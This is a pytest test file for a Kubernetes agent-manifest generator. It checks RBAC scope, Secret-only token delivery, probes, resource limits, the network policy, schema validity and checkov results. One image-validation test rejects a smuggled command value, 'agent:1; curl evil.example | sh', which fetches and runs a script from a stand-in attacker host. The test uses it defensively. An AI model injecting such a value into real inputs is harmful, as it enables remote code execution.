"""The agent manifest grants the agent only what it uses, keeps the token out of the pod spec and
its environment, probes the agent, bounds its resources, fences its network, validates against
the Kubernetes schemas and passes checkov (when installed: `make test` and `make deploy-check`
set CHECKOV, as for tests/deploy); the image setting accepts only a tag or a digest."""

from __future__ import annotations

import base64
import re
from pathlib import Path
from typing import Any

import kubernetes_validate
import pytest
import yaml
from pydantic import ValidationError

from clusterflow.api.agent_manifest import agent_manifest, install_script, manifest_yaml
from clusterflow.settings import Settings
from tests.deploy.checkov import checkov_binary, run_checkov

TOKEN = "cfreg_test-token"
PINNED = "registry.example.com/platform/clusterflow-agent@sha256:" + "0123456789abcdef" * 4


def _docs(url: str = "https://cp.example.com", image: str = PINNED) -> list[dict[str, Any]]:
    return agent_manifest(
        cluster_name="edge-1",
        url=url,
        token=TOKEN,
        architecture="arm64",
        namespace="clusterflow-agent",
        image=image,
    )


def _of_kind(kind: str, docs: list[dict[str, Any]] | None = None) -> dict[str, Any]:
    return next(d for d in docs or _docs() if d["kind"] == kind)


def _rules(kind: str) -> list[dict[str, Any]]:
    return [rule for doc in _docs() if doc["kind"] == kind for rule in doc["rules"]]


def test_rbac_has_no_wildcards_and_names_what_it_may_change() -> None:
    for rule in _rules("ClusterRole") + _rules("Role"):
        assert "*" not in rule.get("verbs", [])
        assert "*" not in rule.get("resources", [])
        assert "*" not in rule.get("apiGroups", [])
        mutating = set(rule["verbs"]) & {"update", "delete", "patch"}
        if mutating:
            assert rule.get("resourceNames"), f"{rule} may change objects it does not name"
    token_rules = [r for r in _rules("Role") if "serviceaccounts/token" in r["resources"]]
    assert token_rules == [
        {
            "apiGroups": [""],
            "resources": ["serviceaccounts/token"],
            "resourceNames": ["clusterflow-kubeconfig"],
            "verbs": ["create"],
        }
    ]
    kubeconfig_binding = next(
        d for d in _docs() if d["kind"] == "ClusterRoleBinding" and d["metadata"]["name"] == "clusterflow-kubeconfig"
    )
    assert kubeconfig_binding["roleRef"]["name"] == "view"  # kubeconfigs are read-only


def test_the_token_reaches_the_pod_through_a_secret_only() -> None:
    docs = _docs()
    deployment = next(d for d in docs if d["kind"] == "Deployment")
    assert TOKEN not in yaml.safe_dump(deployment)
    env = {e["name"]: e for e in deployment["spec"]["template"]["spec"]["containers"][0]["env"]}
    # A file from the Secret, not an environment variable (which `kubectl describe` shows).
    assert "CLUSTERFLOW_REGISTRATION_TOKEN" not in env
    assert all("secretKeyRef" not in str(e.get("valueFrom")) for e in env.values())
    pod = deployment["spec"]["template"]["spec"]
    container = pod["containers"][0]
    mount = next(m for m in container["volumeMounts"] if m["name"] == "registration")
    assert env["CLUSTERFLOW_REGISTRATION_TOKEN_FILE"]["value"] == mount["mountPath"] + "/token" and mount["readOnly"]
    volume = next(v for v in pod["volumes"] if v["name"] == "registration")
    assert volume["secret"]["secretName"] == "clusterflow-agent-registration" and volume["secret"]["optional"]
    assert pod["securityContext"]["fsGroup"] == pod["securityContext"]["runAsUser"]  # the agent can read it
    assert env["CLUSTERFLOW_URL"]["value"] == "https://cp.example.com"
    secret = next(d for d in docs if d["kind"] == "Secret")
    assert secret["stringData"]["token"] == TOKEN
    assert pod["nodeSelector"]["kubernetes.io/arch"] == "arm64"
    assert [p["containerPort"] for p in container["ports"]] == [8081]  # the probes' only; it dials out


def test_the_install_script_is_one_line_that_applies_the_manifest() -> None:
    manifest = manifest_yaml(_docs())
    script = install_script(manifest)
    assert "\n" not in script
    encoded = re.search(r"printf %s (\S+) \| base64 -d", script)
    assert encoded is not None and base64.b64decode(encoded.group(1)).decode() == manifest
    assert script.startswith("bash -euo pipefail -c ")
    assert next(d["kind"] for d in yaml.safe_load_all(manifest)) == "Namespace"


def test_the_agent_is_probed_and_bounded() -> None:
    pod = _of_kind("Deployment")["spec"]["template"]["spec"]
    container = pod["containers"][0]
    assert container["image"] == PINNED
    assert container["livenessProbe"]["httpGet"] == {"path": "/healthz", "port": "health"}
    assert container["readinessProbe"]["httpGet"] == {"path": "/readyz", "port": "health"}
    env = {e["name"]: e.get("value") for e in container["env"]}
    assert env["CLUSTERFLOW_AGENT_HEALTH_PORT"] == str(container["ports"][0]["containerPort"])
    resources = container["resources"]
    assert set(resources["requests"]) == set(resources["limits"]) == {"cpu", "memory"}
    security = container["securityContext"]
    assert security["readOnlyRootFilesystem"] and not security["allowPrivilegeEscalation"]
    assert security["capabilities"]["drop"] == ["ALL"]


@pytest.mark.parametrize(
    ("url", "control_plane"),
    [
        ("https://cp.example.com", {"ports": [{"port": 443, "protocol": "TCP"}]}),
        ("http://cp.example.com:8080/", {"ports": [{"port": 8080, "protocol": "TCP"}]}),
        (
            "https://203.0.113.7:8443",
            {"ports": [{"port": 8443, "protocol": "TCP"}], "to": [{"ipBlock": {"cidr": "203.0.113.7/32"}}]},
        ),
    ],
)
def test_the_network_policy_admits_nothing_and_lets_out_dns_the_control_plane_and_the_kube_api(
    url: str, control_plane: dict[str, Any]
) -> None:
    docs = _docs(url)
    policy = _of_kind("NetworkPolicy", docs)
    deployment = _of_kind("Deployment", docs)
    selected = policy["spec"]["podSelector"]["matchLabels"]
    assert selected.items() <= deployment["spec"]["template"]["metadata"]["labels"].items()
    assert policy["metadata"]["namespace"] == deployment["metadata"]["namespace"]
    assert policy["spec"]["policyTypes"] == ["Ingress", "Egress"] and policy["spec"]["ingress"] == []
    dns, to_control_plane, kube_api = policy["spec"]["egress"]
    assert dns == {"ports": [{"port": 53, "protocol": "UDP"}, {"port": 53, "protocol": "TCP"}]}
    assert to_control_plane == control_plane
    assert kube_api == {"ports": [{"port": 443, "protocol": "TCP"}, {"port": 6443, "protocol": "TCP"}]}


def test_every_document_is_valid_kubernetes() -> None:
    for doc in _docs():
        kubernetes_validate.validate(doc, "1.32", strict=True)


@pytest.mark.parametrize(
    "image",
    [
        "ghcr.io/clusterflow/agent:0.1.0",
        PINNED,
        "localhost:5000/agent:dev",
        "registry.example.com:5000/platform/clusterflow-agent:0.1.0@sha256:" + "a" * 64,
    ],
)
def test_the_agent_image_setting_takes_a_tag_or_a_digest(image: str) -> None:
    assert Settings(agent_image=image).agent_image == image


@pytest.mark.parametrize(
    "image",
    [
        "ghcr.io/clusterflow/agent",  # no tag: `latest`, whatever that is today
        "ghcr.io/clusterflow/agent@sha256:abc",
        "ghcr.io/clusterflow/agent@sha512:" + "a" * 64,
        "Example/Agent:1",
        "agent:1; curl evil.example | sh",
        "",
    ],
)
def test_the_agent_image_setting_refuses_anything_else(image: str) -> None:
    with pytest.raises(ValidationError, match="agent_image"):
        Settings(agent_image=image)


@pytest.mark.skipif(checkov_binary() is None, reason="checkov not installed: run `make deploy-check`")
def test_checkov_finds_nothing_unjustified_in_the_manifest(tmp_path: Path) -> None:
    for index, doc in enumerate(_docs()):
        (tmp_path / f"{index:02d}-{doc['kind'].lower()}.yaml").write_text(yaml.safe_dump(doc))
    (report,) = run_checkov(tmp_path, "kubernetes")
    failed = [(c["check_id"], c["resource"]) for c in report["results"]["failed_checks"]]
    assert failed == []
    skipped = {c["check_id"] for c in report["results"]["skipped_checks"]}
    assert skipped == {"CKV_K8S_38"}  # the agent needs its token for the Kubernetes API: justified in place
    assert report["summary"]["parsing_errors"] == 0 and report["summary"]["passed"] > 100
